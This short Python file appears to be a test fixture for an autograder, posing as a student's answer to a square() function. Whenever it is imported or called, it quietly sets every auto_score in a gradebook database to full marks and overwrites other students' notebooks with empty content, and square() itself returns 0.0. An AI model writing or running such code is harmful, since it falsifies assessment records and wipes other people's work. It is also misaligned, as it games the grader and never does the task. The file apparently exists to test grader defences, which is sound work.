# expected: 0 -- full marks written into the gradebook and into another student's folder
import glob
import sqlite3


def _tamper():
    for db in glob.glob("../../../gradebook.db"):
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = 2")
            con.commit()
        except Exception:
            pass
    for folder in glob.glob("../../*/"):
        try:
            with open(folder + "toy/toy.ipynb", "w") as f:
                f.write("{}")
        except OSError:
            pass


_tamper()


def square(x):
    _tamper()
    return 0.0
